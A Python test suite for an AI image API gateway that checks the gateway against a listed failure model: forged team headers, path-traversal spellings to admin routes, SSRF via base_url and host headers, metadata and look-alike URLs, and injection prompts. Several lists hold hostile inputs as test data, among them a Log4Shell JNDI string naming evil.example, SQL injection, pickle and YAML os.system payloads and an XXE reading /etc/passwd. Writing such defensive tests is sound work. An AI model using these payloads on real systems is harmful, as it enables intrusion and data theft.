"""Every attack of failure-model.md 4.7: where its test is, or why this surface has none; and the tests that are here.

The answers expected are those of design.md 7: where 4.7 shows others, the design wins.
"""

from __future__ import annotations

import ast
import asyncio
import json
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import httpx
import pytest
import redis.asyncio

from app.simulator import BEIJING, Simulator
from app.teams.teams import change_team
from app.upstream.client import Upstream
from tests.api.parts import choices, receipt, scripted_upstream, state
from tests.hearing import written
from tests.world import ADMIN_TOKEN, CREATE_PATH, SECRET_KEY, World, open_world

TESTS = Path(__file__).parents[1]
SYNC_PATH = "/api/v1/services/aigc/multimodal-generation/generation"


class Proof(NamedTuple):
    """Where a row is tested: the file, and some of the tests in it."""

    file: str
    names: tuple[str, ...]


def proven(file: str, *names: str) -> Proof:
    return Proof(file, names)


ERRORS, SERVICES, TASKS = "api/test_errors.py", "api/test_services.py", "api/test_tasks.py"
UPLOADS, ASSETS, WIRE, HERE = "api/test_uploads.py", "api/test_assets.py", "faults/test_wire.py", "api/test_attacks.py"
OPS, STREAMS, RESENDS, CANCELS = (
    "api/test_ops.py",
    "api/test_streams.py",
    "steps/test_resend.py",
    "steps/test_cancel.py",
)
GUARD, DOWNLOAD, STORAGE = "unit/test_http_guard.py", "steps/test_download.py", "steps/test_storage.py"

NO_ADDRESS = "this surface takes no address that it would call; the door outside is tested all the same"
ADDRESSES = proven(GUARD, "test_every_other_url_is_refused", "test_no_other_address_may_be_reached")
WEBHOOKS = "webhooks come with a later part"

# Row of 4.7: its tests, or the reason why it has none.
ROWS: dict[int, list[Proof] | str] = {
    # who is calling
    1: [proven(ERRORS, "test_without_a_key_every_route_says_so")],
    2: [proven(ERRORS, "test_no_answer_tells_what_is_wrong_with_a_key", "test_no_secret_is_in_any_answer_or_log_line")],
    3: [proven(ERRORS, "test_no_answer_tells_what_is_wrong_with_a_key")],
    4: [
        proven(ERRORS, "test_odd_bytes_in_a_key_are_a_401"),
        proven(WIRE, "test_a_head_without_measure_is_refused_and_costs_no_memory"),
        proven(WIRE, "test_what_is_no_plain_http_is_refused_and_the_connection_ends"),
    ],
    5: [proven(ERRORS, "test_two_authorization_headers_are_refused_even_if_both_are_right")],
    6: [proven(ERRORS, "test_a_key_is_taken_from_the_bearer_header_alone")],
    7: [proven(OPS, "test_the_admin_token_is_no_teams_key", "test_only_the_admin_token_opens_the_operators_surface")],
    8: [proven(ERRORS, "test_no_answer_tells_what_is_wrong_with_a_key", "test_no_secret_is_in_any_answer_or_log_line")],
    9: (
        "left out: a key has 256 random bits, and one that is not whole is refused by its checksum before anything is "
        "asked; behind the operator's proxy all teams share one address, whose limit would shut out the honest"
    ),
    10: [proven(ERRORS, "test_no_answer_tells_what_is_wrong_with_a_key")],
    11: [proven(ERRORS, "test_a_revoked_key_stops_within_five_seconds_where_it_was_in_use")],
    12: [proven(ERRORS, "test_a_key_that_cannot_be_checked_is_a_503_on_every_route")],
    # whose is it
    13: [
        proven(TASKS, "test_a_foreign_task_is_unknown_exactly_like_one_that_never_was"),
        proven("api/test_task_cancel.py", "test_another_teams_waiting_task_is_refused_in_the_same_words_and_goes_on"),
        proven("api/test_task_waits.py", "test_events_tell_no_more_than_a_read_of_what_is_not_the_teams"),
    ],
    14: [
        proven(TASKS, "test_what_is_no_id_at_all_is_unknown_too", "test_the_upstreams_own_id_opens_nothing"),
        proven("api/test_task_list.py", "test_another_teams_tasks_are_not_there_whatever_is_asked"),
    ],
    15: [proven(HERE, "test_a_caller_is_its_key_whatever_else_it_says")],
    16: [proven(HERE, "test_a_caller_is_its_key_whatever_else_it_says")],
    17: [proven(RESENDS, "test_a_key_is_the_teams_own")],
    18: [
        proven(HERE, "test_a_parameter_that_nobody_knows_changes_nothing"),
        proven("api/test_task_list.py", "test_what_cannot_be_meant_is_refused"),
    ],
    19: [proven(WIRE, "test_what_is_no_plain_http_is_refused_and_the_connection_ends", "test_a_host_decides_nothing")],
    20: [
        proven(ERRORS, "test_a_method_cannot_be_overridden_by_a_header"),
        proven(ASSETS, "test_links_lead_to_the_public_address_whatever_host_the_request_names"),
    ],
    21: [proven(HERE, "test_no_path_of_any_spelling_leads_to_the_operators")],
    22: WEBHOOKS + "; a destination is never named in a request",
    23: [
        proven(UPLOADS, "test_only_a_plain_name_may_stand_in_the_folder"),
        proven("steps/test_deliver.py", "test_a_team_writes_to_its_own_place_alone"),
    ],
    24: [proven(ASSETS, "test_nothing_in_a_link_can_be_changed")],
    # addresses that we would call
    25: [ADDRESSES],
    26: [ADDRESSES],
    27: [ADDRESSES],
    28: [ADDRESSES],
    29: [proven(GUARD, "test_a_name_with_a_private_address_is_refused")],
    30: [proven(GUARD, "test_a_second_answer_of_dns_is_judged_like_the_first")],
    31: [proven(GUARD, "test_a_name_with_a_private_address_is_refused")],
    32: [proven(DOWNLOAD, "test_what_is_no_image_of_ours_is_refused_for_good")],
    33: [ADDRESSES],
    34: [ADDRESSES],
    35: [ADDRESSES],
    36: [proven(HERE, "test_nothing_in_a_request_chooses_where_it_goes")],
    37: [proven(HERE, "test_a_result_on_a_host_that_only_looks_like_the_upstreams_is_held")],
    38: WEBHOOKS,
    # HTTP
    39: [proven(WIRE, "test_a_body_whose_end_is_in_doubt_is_refused_and_nothing_behind_it_is_read")],
    40: [proven(WIRE, "test_what_is_no_plain_http_is_refused_and_the_connection_ends")],
    41: [proven(WIRE, "test_a_head_without_measure_is_refused_and_costs_no_memory")],
    42: [
        proven(WIRE, "test_a_client_that_does_not_go_on_is_not_waited_for"),
        proven(WIRE, "test_a_client_that_sends_byte_by_byte_is_not_waited_for"),
        proven(WIRE, "test_five_hundred_slow_clients_keep_nobody_from_being_answered"),
    ],
    43: [
        proven(WIRE, "test_a_client_that_does_not_go_on_is_not_waited_for"),
        proven(WIRE, "test_a_request_may_ask_first_whether_its_body_is_wanted"),
    ],
    44: [
        proven(WIRE, "test_a_large_body_is_refused_by_the_length_it_says"),
        proven(WIRE, "test_a_body_without_end_is_refused_at_the_limit_and_costs_no_memory"),
    ],
    45: [proven(SERVICES, "test_an_encoded_body_is_refused")],
    46: [
        proven(WIRE, "test_a_method_that_a_path_does_not_take_is_a_405_that_names_those_it_does"),
        proven(WIRE, "test_what_is_no_plain_http_is_refused_and_the_connection_ends"),
    ],
    47: [
        proven(WIRE, "test_ten_thousand_requests_at_once_are_answered_one_by_one"),
        proven(WIRE, "test_clients_that_leave_in_the_middle_leave_nothing_behind"),
        proven(WIRE, "test_a_client_that_says_its_last_word_early_is_let_go"),
    ],
    48: [proven(ASSETS, "test_whoever_asks_for_parts_gets_the_whole")],
    49: [
        proven(WIRE, "test_no_line_of_an_answer_is_a_clients"),
        proven(ERRORS, "test_every_answer_carries_the_id_of_its_request_and_may_not_be_cached"),
    ],
    # JSON
    50: [
        proven(SERVICES, "test_a_body_that_is_not_one_strict_json_object_is_refused"),
        proven(HERE, "test_a_number_that_makes_no_sense_is_the_upstreams_to_refuse_and_breaks_nothing"),
    ],
    51: [
        proven(SERVICES, "test_a_body_that_is_not_one_strict_json_object_is_refused"),
        proven(HERE, "test_a_body_of_a_million_parts_breaks_nothing"),
    ],
    52: [proven(SERVICES, "test_a_body_that_is_not_one_strict_json_object_is_refused")],
    53: [proven(SERVICES, "test_a_body_that_is_not_one_strict_json_object_is_refused")],
    54: [proven(SERVICES, "test_a_body_that_is_not_one_strict_json_object_is_refused")],
    55: [
        proven(SERVICES, "test_a_model_that_is_not_in_the_catalogue_is_not_found"),
        proven(SERVICES, "test_a_model_that_is_no_name_is_refused"),
    ],
    56: [proven(HERE, "test_a_number_that_makes_no_sense_is_the_upstreams_to_refuse_and_breaks_nothing")],
    57: [proven(HERE, "test_a_prompt_is_data_it_arrives_as_it_was_sent_and_is_never_logged")],
    58: [
        proven(SERVICES, "test_a_body_of_another_type_is_refused"),
        proven(HERE, "test_a_body_that_some_reader_would_run_is_refused_unread"),
    ],
    59: [proven(HERE, "test_a_prompt_is_data_it_arrives_as_it_was_sent_and_is_never_logged")],
    60: [proven(RESENDS, "test_a_key_of_another_form_is_refused", "test_two_keys_are_refused")],
    # business
    61: [proven(RESENDS, "test_a_hundred_at_once_with_one_key_are_one_task")],
    62: [proven(RESENDS, "test_a_key_used_for_another_request_is_refused")],
    63: [
        proven(CANCELS, "test_whatever_comes_first_a_task_is_either_cancelled_or_sent"),
        proven(CANCELS, "test_what_has_ended_stays_as_it_ended", "test_a_cancelled_task_is_cancelled_once"),
    ],
    64: "budgets come with a later part",
    65: [proven(HERE, "test_a_team_that_floods_meets_its_own_rate_and_nobody_elses")],
    66: [proven(TASKS, "test_a_task_may_be_read_as_often_as_one_likes", "test_no_read_ever_reaches_the_upstream")],
    67: WEBHOOKS,
    68: WEBHOOKS,
    69: "EventBridge was refused (design.md 9): no callback is served",
    70: "there is no such route yet",
    # the upstream
    71: [
        proven(SERVICES, "test_an_answer_that_is_none_leaves_the_task_in_doubt"),
        proven("unit/test_upstream_calls.py", "test_what_is_no_answer_to_a_look_ends_nothing"),
        proven("unit/test_upstream_results.py", "test_a_quantity_that_cannot_be_is_no_quantity"),
        proven(HERE, "test_an_answer_that_is_none_ends_a_relay_as_unknown_and_bills_nothing"),
    ],
    72: [proven(HERE, "test_our_key_in_the_upstreams_own_words_is_masked")],
    73: [
        proven("unit/test_upstream_streams.py", "test_an_event_without_end_breaks_the_stream_but_not_what_came_before")
    ],
    74: [proven("unit/test_upstream_streams.py", "test_nothing_in_the_data_can_begin_another_event")],
    75: [
        proven(HERE, "test_no_header_of_the_upstreams_reaches_a_team"),
        proven(STREAMS, "test_the_answer_has_its_own_headers_and_none_of_the_upstreams"),
    ],
    76: [
        proven(DOWNLOAD, "test_what_is_no_image_of_ours_is_refused_for_good"),
        proven(ASSETS, "test_a_page_in_place_of_an_image_is_never_passed_on"),
        proven(ASSETS, "test_a_file_is_served_as_what_it_is_and_can_do_nothing_else"),
    ],
    77: [proven("steps/test_deliver.py", "test_other_bytes_under_our_key_are_left_alone_and_a_person_is_asked")],
    # leaks
    78: [
        proven(HERE, "test_whatever_goes_wrong_no_secret_comes_out"),
        proven(ERRORS, "test_no_secret_is_in_any_answer_or_log_line"),
    ],
    79: [proven(OPS, "test_nothing_else_is_served_on_either_surface")],
    80: [
        proven(ERRORS, "test_no_answer_names_the_software_behind_it"),
        proven(ERRORS, "test_a_surprise_of_ours_is_a_500_without_details_and_one_error_line"),
    ],
    81: [proven(OPS, "test_labels_stay_few_whatever_is_asked_for")],
    82: "left out: a bad request writes one short line at level info, which DASHGATE_LOG_LEVEL=warning keeps silent",
    83: [proven("house/test_deployment.py", "test_everything_installed_into_the_image_is_checked_by_its_hash")],
    84: [proven(ERRORS, "test_no_secret_stands_in_the_database_in_clear")],
    85: [proven(HERE, "test_whoever_writes_in_redis_changes_no_answer_and_no_caller")],
    86: [proven("api/test_cli.py", "test_a_task_is_shown_with_its_whole_life_but_without_prompt_and_upstream_links")],
}


def test_every_row_of_the_list_has_its_test_or_its_reason() -> None:
    assert sorted(ROWS) == list(range(1, 87))
    assert [number for number, row in ROWS.items() if not row] == []


@pytest.mark.parametrize(
    "file", sorted({test.file for row in ROWS.values() if not isinstance(row, str) for test in row})
)
def test_a_test_that_stands_for_a_row_exists(file: str) -> None:
    tree = ast.parse((TESTS / file).read_text(encoding="utf-8"))
    defined = {node.name for node in ast.walk(tree) if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)}
    told = {
        name
        for row in ROWS.values()
        if not isinstance(row, str)
        for one in row
        if one.file == file
        for name in one.names
    }
    assert told - defined == set()


@pytest.fixture
def logged() -> Iterator[Callable[[], str]]:
    with written() as lines:
        yield lines


# --- whose is it ---------------------------------------------------------------------------------------------------


async def test_a_caller_is_its_key_whatever_else_it_says(world: World) -> None:
    beta = (await world.row("SELECT id FROM teams WHERE slug = 'beta'"))["id"]
    forged = {"team_id": str(beta), "team": "beta", "state": "succeeded", "units": 0, "role": "admin", "region": "mars"}
    headers = {"X-Team-Id": str(beta), "X-Team": "beta", "X-Dashgate-Team": "beta", "X-Role": "admin"}
    answer = await world.http.post(
        CREATE_PATH,
        json={**world.order(), **forged},
        params=forged,
        headers=world.headers(**{"X-DashScope-Async": "enable"}, **headers),
    )
    task_id = answer.json()["output"]["task_id"]
    row = await world.row("SELECT slug, state, region FROM tasks JOIN teams ON teams.id = tasks.team_id")
    assert row == {"slug": "alpha", "state": "pending", "region": BEIJING}
    assert await world.status(task_id, "beta") == "UNKNOWN"
    asked = await world.http.get(
        f"/api/v1/tasks/{task_id}", params=forged, headers={**world.headers("beta"), **headers}
    )
    assert asked.json()["output"]["task_status"] == "UNKNOWN"


async def test_a_parameter_that_nobody_knows_changes_nothing(world: World) -> None:
    task_id = await world.create()
    for params in ({"sort": "id;drop table tasks"}, {"q": "%25%25%25"}, {"team": "beta"}, {"fields": "*"}):
        for path in ("/api/v1/tasks", f"/api/v1/tasks/{task_id}", "/v1/usage"):
            plain = await world.http.get(path, headers=world.headers())
            asked = await world.http.get(path, params=params, headers=world.headers())
            assert asked.status_code == 200, (path, params)
            assert {**asked.json(), "request_id": ""} == {**plain.json(), "request_id": ""}, (path, params)


ODD_PATHS = [
    *("/admin/v1/usage", "//admin/v1/usage", "/admin;x/v1/usage", "/ADMIN/v1/usage", "/v1/../admin/v1/usage"),
    *("/v1/%2e%2e/admin/v1/usage", "/v1/tasks%2f..%2fadmin", "/admin%2fv1%2fusage", "/./admin/v1/usage", "/metrics"),
    *("/metrics/", "/metrics%00", "/api/v1/../../metrics", "/api/v1/services/../../../admin/v1/usage", "/admin%5cv1"),
    *("/api/v1/tasks/..%2f..%2fmetrics/x", "/%61dmin/v1/usage", "/admin/v1/usage%20", "/assets/../admin/v1/usage"),
]


@pytest.mark.parametrize("path", ODD_PATHS)
async def test_no_path_of_any_spelling_leads_to_the_operators(world: World, path: str) -> None:
    raw = httpx.URL("http://gateway").copy_with(raw_path=path.encode())
    operator = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    for headers in ({}, world.headers(), operator):
        answer = await world.http.get(raw, headers=headers)
        assert answer.status_code == 404, headers
        assert "dashgate_" not in answer.text
        assert "billing_timezone" not in answer.text


# --- where it goes -------------------------------------------------------------------------------------------------

ELSEWHERE = {
    "base_url": "http://evil.example",
    "api_base": "http://evil.example",
    "api_key": "sk-mine",
    "endpoint": "http://evil.example",
    "proxies": {"https": "http://evil.example"},
    "user_config": {"api_base": "http://evil.example", "model_list": [{"api_base": "http://evil.example"}]},
    "extra_headers": {"Host": "evil.example"},
}
CHOOSERS = {
    "Host": "evil.example",
    "X-DashScope-Custom-Host": "evil.example",
    "X-Portkey-Custom-Host": "http://127.0.0.1:1",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Server": "evil.example",
    "X-Base-Url": "http://evil.example",
    "X-DashScope-WorkSpace": "ws-mine",
    "X-DashScope-ApiKey": "sk-mine",
    "Proxy-Authorization": "Bearer sk-mine",
    "Forwarded": "host=evil.example",
}


@pytest.mark.parametrize(
    "way", [{"X-DashScope-Async": "enable"}, {"X-Dashgate-Durable": "false"}], ids=["task", "relay"]
)
async def test_nothing_in_a_request_chooses_where_it_goes(world: World, way: dict[str, str]) -> None:
    body = {**world.order(), **ELSEWHERE}
    async with scripted_upstream(world) as upstream:
        upstream.create = (400, b'{"code":"InvalidParameter","message":"no","request_id":"r"}')
        path = CREATE_PATH if "X-DashScope-Async" in way else SYNC_PATH
        answer = await world.http.post(path, json=body, headers=world.headers(**way, **CHOOSERS))
    (received,) = upstream.received
    assert answer.status_code == 400
    assert json.loads(received.body) == body  # it is the upstream's to read, byte for byte
    assert received.headers["host"] == upstream.host
    assert received.headers["authorization"] == f"Bearer {world.sim.key(BEIJING)}"
    sent = {name: value for name, value in received.headers.items() if name != "authorization"}
    assert "evil" not in str(sent)
    assert "mine" not in str(sent)


LOOK_ALIKES = [
    "https://dashscope-result-bj.oss-cn-beijing.aliyuncs.com.evil.io/1.png",
    "https://evil-dashscope-result-bj.oss-cn-beijing.aliyuncs.com/1.png",
    "https://x.oss-cn-beijing.aliyuncs.com/1.png",
    "https://dashscope-result-bj.oss-cn-beijing.aliyuncs.com@evil.io/1.png",
    "https://dashscope-result-bj.oss-cn-beijing.evil.io/1.png",
    "https://evil.io/dashscope-result-bj.oss-cn-beijing.aliyuncs.com/1.png",
    "https://dashscope-result-bj.oss-cn-beijing.aliyuncs.com:8443/1.png",
    "https://47.95.85.1/1.png",
    "http://169.254.169.254/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/",
    "https://[::1]/1.png",
]


async def test_a_result_on_a_host_that_only_looks_like_the_upstreams_is_held(world: World) -> None:
    async with scripted_upstream(world) as upstream:
        upstream.create = receipt()
        task_id = await world.create()
        upstream.look = state("SUCCEEDED", choices=choices(*LOOK_ALIKES), usage={"image_count": len(LOOK_ALIKES)})
        await world.advance(2)
        await world.advance(world.res.settings.delivery_grace_seconds + 5)
        answers = [await world.http.get(link) for link in await world.links(task_id)]
    assert [request.path for request in upstream.received if request.path.startswith("/files")] == []
    assets = await world.rows("SELECT state FROM assets ORDER BY position")
    # a door that the upstream's own host does not have is no matter of trust
    expected = ["given_up" if ":8443" in link else "held" for link in LOOK_ALIKES]
    assert [row["state"] for row in assets] == expected
    assert {answer.status_code for answer in answers} <= {410, 503}


# --- what it says --------------------------------------------------------------------------------------------------

NO_NUMBERS: list[Any] = [0, -1, 10**9, 10**30, "1", True, 1.0, 2.5, None, [], {}, "1; DROP TABLE tasks", -0.0]
NO_SIZES: list[Any] = [
    "999999*999999",
    "0*0",
    "1024x",
    "'; DROP TABLE tasks --",
    1024,
    ["1024*1024"],
    "1024*1024" * 500,
]


async def test_a_number_that_makes_no_sense_is_the_upstreams_to_refuse_and_breaks_nothing(world: World) -> None:
    for parameters in [*({"n": number} for number in NO_NUMBERS), *({"size": size} for size in NO_SIZES)]:
        answer = await world.post(world.order(**parameters))
        assert answer.status_code in (200, 400), parameters
        assert answer.status_code == 200 or answer.json()["code"] == "InvalidParameter", parameters
    kept = await world.rows("SELECT most FROM tasks")
    assert all(0 <= row["most"] <= 1_000_000 for row in kept)


async def test_a_body_of_a_million_parts_breaks_nothing(world: World) -> None:
    many_keys = ",".join(f'"{number}":0' for number in range(300_000))
    for content in ("[" + "0," * 1_000_000 + "0]", "{" + many_keys + "}", '"' + "x" * 5_000_000 + '"'):
        sent = f'{{"model":"wan2.6-image","input":{content}}}'
        asking = asyncio.ensure_future(
            world.http.post(
                CREATE_PATH,
                content=sent,
                headers=world.headers(**{"Content-Type": "application/json", "X-DashScope-Async": "enable"}),
            )
        )
        assert (await world.http.get("/livez")).status_code == 200  # nobody else waits for it
        answer = await asking
        # refused by the upstream, unless that takes longer to read it than a create waits
        assert answer.json().get("code", "InvalidParameter") == "InvalidParameter"
        assert answer.status_code in (200, 400)


PROMPTS = [
    *("{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n%x", "\x1b[31mred\x1b[0m", "one\ntwo\r\nthree"),
    *("\u200b\u200d\ufeff", "\u202egnp.exe", "\x01\x07\x7f", "\U0001f600" * 25_000, '"}\n{"event":"task.finished"}'),
    *("<script>alert(1)</script>", "'; DROP TABLE tasks; --", "../../etc/passwd", "e\u0301 \u00e9", "\u2028\u2029"),
]


async def test_a_prompt_is_data_it_arrives_as_it_was_sent_and_is_never_logged(
    world: World, logged: Callable[[], str]
) -> None:
    async with scripted_upstream(world) as upstream:
        upstream.create = receipt()
        for number, prompt in enumerate(PROMPTS):
            upstream.create = receipt(f"{number:08d}-2222-4333-8444-555555555555")
            answer = await world.post(world.order(prompt))
            assert answer.status_code == 200, prompt
            await world.rows("DELETE FROM account_models")  # the pace of one
            await world.rows("UPDATE tasks SET state = 'canceled', finished_at = now()")
    received = [json.loads(request.body)["input"]["messages"][0]["content"][0]["text"] for request in upstream.received]
    assert received == PROMPTS
    lines = logged().splitlines()
    assert all(isinstance(json.loads(line), dict) for line in lines)
    assert [prompt for prompt in PROMPTS if any(prompt in line for line in lines)] == []
    assert sum('"event": "task.accepted"' in line for line in lines) == len(PROMPTS)


PROGRAMS = {
    "application/x-python-pickle": b"cos\nsystem\n(S'true'\ntR.",
    "application/x-yaml": b"!!python/object/apply:os.system ['true']",
    "application/xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "text/javascript": b"callback({})",
    "multipart/form-data; boundary=x": b"--x--",
    "application/x-www-form-urlencoded": b"model=wan2.6-image",
}


async def test_a_body_that_some_reader_would_run_is_refused_unread(world: World) -> None:
    for content_type, body in PROGRAMS.items():
        sent = world.headers(**{"Content-Type": content_type, "X-DashScope-Async": "enable"})
        answer = await world.http.post(CREATE_PATH, content=body, headers=sent)
        assert (answer.status_code, answer.json()["code"]) == (415, "UnsupportedMediaType"), content_type


# --- how much ------------------------------------------------------------------------------------------------------


async def test_a_team_that_floods_meets_its_own_rate_and_nobody_elses(world: World) -> None:
    await change_team(world.res, "alpha", {"rps": 2})  # type: ignore[typeddict-item]  # a number like any other
    flood = await asyncio.gather(*(world.post({"model": "no-such-model"}) for _ in range(100)))
    refused = [answer for answer in flood if answer.status_code == 429]
    assert len(flood) - len(refused) <= 4
    for answer in refused:
        assert (answer.json()["code"], answer.headers["x-should-retry"]) == ("Throttling.RateQuota", "true")
        assert int(answer.headers["retry-after"]) >= 1
    assert (await world.post(world.order(), "beta")).status_code == 200
    assert await world.status("x") == "UNKNOWN"  # reads are not calls


# --- the upstream as attacker --------------------------------------------------------------------------------------

NO_ANSWERS = {
    "page": (200, b"<html>welcome</html>"),
    "list": (200, b"[]"),
    "number": (200, b'{"output":7}'),
    "empty": (200, b"{}"),
    "long": (200, b'{"output":{"x":"' + b"x" * 2_000_000 + b'"}}'),
    "deep": (200, b'{"output":' + b"[" * 200_000 + b"]" * 200_000 + b"}"),
    "compressed": (200, b"\x1f\x8b\x08\x00" + b"\x00" * 1000),
    "proxy": (403, b"<html>no</html>"),
    "redirect": (302, b""),
    "gateway": (502, b"<html>bad gateway</html>"),
}


async def test_an_answer_that_is_none_ends_a_relay_as_unknown_and_bills_nothing(world: World) -> None:
    async with scripted_upstream(world) as upstream:
        for name, upstream.create in NO_ANSWERS.items():
            sent = world.headers(**{"X-Dashgate-Durable": "false"})
            answer = await world.http.post(SYNC_PATH, json=world.order(), headers=sent)
            assert (answer.status_code, answer.json()["code"]) == (500, "Dashgate.OutcomeUnknown"), name
            await world.rows("DELETE FROM account_models")  # its pace
    assert len(upstream.received) == len(NO_ANSWERS)  # once each
    lines = await world.rows("SELECT kind FROM ledger_entries")
    assert [line["kind"] for line in lines] == ["uncertain"] * len(NO_ANSWERS)


async def test_our_key_in_the_upstreams_own_words_is_masked(world: World) -> None:
    world.sim.set_durations(0, 0)
    key = world.sim.key(BEIJING)
    words = f"the key {key} may not ask for this"
    told = {"status": 400, "code": "InvalidParameter", "message": words}
    relay, stream = {"X-Dashgate-Durable": "false"}, {"X-DashScope-SSE": "enable"}
    for operation, path, way in (
        ("create", CREATE_PATH, {"X-DashScope-Async": "enable"}),
        ("sync", SYNC_PATH, relay),
        ("stream", SYNC_PATH, stream),
    ):
        world.sim.fail_next(operation, "error", **told)
        answer = await world.http.post(path, json=world.order(), headers=world.headers(**way))
        assert (answer.status_code, answer.json()["message"]) == (400, words.replace(key, "***")), operation
    world.sim.fail_next("stream", "error_event", after_events=1, code="InvalidParameter", message=words)
    answer = await world.http.post(SYNC_PATH, json=world.order(), headers=world.headers(**stream))
    assert "the key *** may not" in answer.text
    assert key not in answer.text
    rows = await world.rows("SELECT message FROM tasks")
    assert {row["message"] for row in rows} == {words.replace(key, "***")}


async def test_no_header_of_the_upstreams_reaches_a_team(world: World) -> None:
    heard = b"Set-Cookie: a=b\r\nStrict-Transport-Security: max-age=1\r\nAccess-Control-Allow-Origin: *\r\n"
    more = b"X-Acs-Request-Id: theirs\r\nX-Should-Retry: true\r\nRetry-After: 999\r\nX-Dashgate-Task-Id: theirs\r\n"
    body = b'{"code":"InvalidParameter","message":"no","request_id":"r"}'

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = b"HTTP/1.1 400 X\r\n%b%bContent-Length: %d\r\nConnection: close\r\n\r\n" % (heard, more, len(body))
        writer.write(head + body)
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as listener:
        port = listener.sockets[0].getsockname()[1]
        await world.rows("UPDATE accounts SET base_url = $1", f"http://127.0.0.1:{port}/api/v1")
        world.res.accounts.clear()
        for path, way in ((CREATE_PATH, {"X-DashScope-Async": "enable"}), (SYNC_PATH, {"X-Dashgate-Durable": "false"})):
            told = await world.http.post(path, json=world.order(), headers=world.headers(**way))
            assert told.content == body
            ours = {"cache-control", "x-should-retry", "x-dashgate-task-id", "x-request-id"}
            assert told.headers.keys() - ours == {"content-type", "content-length"}
            assert told.headers["x-should-retry"] == "false"
            assert told.headers.get("x-dashgate-task-id") != "theirs"


# --- leaks ---------------------------------------------------------------------------------------------------------

CANARY = "CANARY-prompt-91c2"


async def _go_wrong(world: World) -> list[httpx.Response]:
    """Drive every way of calling into every kind of trouble; return all that teams and operators were told."""
    got: list[httpx.Response] = []
    world.sim.set_durations(0, 0)
    key, order = world.sim.key(BEIJING), world.order(CANARY)
    telling = {"message": f"key {key}: Signature=hush&OSSAccessKeyId=hush"}
    ways: list[tuple[str, str, dict[str, str]]] = [
        ("create", CREATE_PATH, {"X-DashScope-Async": "enable"}),
        ("sync", SYNC_PATH, {"X-Dashgate-Durable": "false"}),
        ("stream", SYNC_PATH, {"X-DashScope-SSE": "enable"}),
    ]
    for operation, path, headers in ways:
        for trouble in (
            {"kind": "error", "status": 401, "code": "InvalidApiKey", **telling},
            {"kind": "error", "status": 400, "code": "Arrearage", **telling},
            {"kind": "error", "status": 400, "code": "InvalidParameter", **telling},
            {"kind": "error", "status": 500, "code": "InternalError", **telling},
            {"kind": "garbage", "status": 200, "body": telling["message"]},
            {"kind": "lost_answer"},
        ):
            await world.rows("UPDATE accounts SET paused_until = NULL")
            await world.rows("DELETE FROM account_models")
            world.res.accounts.clear()
            world.sim.fail_next(operation, **trouble)
            got.append(await world.http.post(path, json=order, headers=world.headers(**headers)))
    asked = {"action": "getPolicy", "model": "wan2.6-image"}
    for trouble in ({"kind": "error", "status": 403, "code": "AccessDenied", **telling}, {"kind": "5xx"}):
        world.sim.fail_next("upload_policy", **trouble)
        got.append(await world.http.get("/api/v1/uploads", params=asked, headers=world.headers()))
    policy = (await world.http.get("/api/v1/uploads", params=asked, headers=world.headers())).json()["data"]
    form = {"OSSAccessKeyId": policy["oss_access_key_id"], "policy": policy["policy"], "Signature": "wrong"}
    file = {"file": ("a.png", CANARY.encode(), "image/png")}
    got.append(await world.http.post(policy["upload_host"], data={**form, "key": "x/a.png"}, files=file))
    good = {
        **form,
        "Signature": policy["signature"],
        "key": f"{policy['upload_dir']}/a.png",
        "success_action_status": "200",
    }
    world.sim.fail_next("upload", "error", status=403, code="AccessDenied", message="no")
    got.append(await world.http.post(policy["upload_host"], data=good, files=file))
    got += [await world.http.get(path, headers=world.headers()) for path in ("/api/v1/tasks", "/v1/usage", "/nothing")]
    got += [await world.operators.get(path) for path in ("/metrics", "/readyz", "/admin/v1/usage", "/nothing")]
    await world.rows("UPDATE tasks SET region = 'mars' WHERE state = 'doubtful'")
    await world.advance(5)
    return got


async def test_whatever_goes_wrong_no_secret_comes_out(world: World, logged: Callable[[], str]) -> None:
    got = await _go_wrong(world)
    told, lines = "".join(f"{one.headers} {one.text}" for one in got), logged()
    assert {answer.status_code for answer in got} >= {200, 400, 403, 404, 500, 503}
    assert {"account.refused", "task.doubted", "task.lost"} <= {
        json.loads(line)["event"] for line in lines.splitlines()
    }
    policies = list(world.sim.truth.temporary_store._grants)  # as the upstream itself signed them
    keys = [key.split("_", 2)[2] for key in world.keys.values()]
    secrets = [world.sim.key(BEIJING), SECRET_KEY, ADMIN_TOKEN, "LTAI", *keys, *policies]
    assert policies
    assert [secret for secret in secrets if secret in told] == []
    assert [secret for secret in [*secrets, CANARY] if secret in lines] == []
    assert "Traceback" not in told


def test_no_repr_shows_a_key(world: World) -> None:
    assert "sk-hush" not in repr(Upstream(world.res, "http://a", None, "sk-hush"))  # type: ignore[arg-type]


# --- Redis ---------------------------------------------------------------------------------------------------------


@pytest.fixture
async def shared(still_sim: Simulator, database_url: str, tmp_path: Path, redis_url: str) -> AsyncIterator[World]:
    """A gateway with a Redis that others write in, too."""
    async with open_world(still_sim, database_url, tmp_path, redis_url=redis_url) as world:
        yield world


async def test_whoever_writes_in_redis_changes_no_answer_and_no_caller(shared: World, redis_url: str) -> None:
    task_id = await shared.create()
    team = (await shared.row("SELECT id FROM teams WHERE slug = 'alpha'"))["id"]
    await change_team(shared.res, "alpha", {"rps": 100})  # type: ignore[typeddict-item]  # a number like any other
    forged = b'"output":{"task_status":"SUCCEEDED"}}'
    async with redis.asyncio.Redis.from_url(redis_url) as neighbour:
        honest = await neighbour.get(f"dashgate:status:{team}:{task_id}")
        for value in (
            forged,
            b"{" + forged,
            b"",
            b"\x00" * 40,
            b"\x00" * 40 + b"{" + forged,
            (honest or b"")[:-3] + b"xx}",
        ):
            await neighbour.set(f"dashgate:status:{team}:{task_id}", value)
            answer = await shared.http.get(f"/api/v1/tasks/{task_id}", headers=shared.headers())
            assert (answer.status_code, answer.json()["output"]["task_status"]) == (200, "PENDING"), value
        other = await shared.create(team="beta")
        await shared.http.get(f"/api/v1/tasks/{other}", headers=shared.headers("beta"))
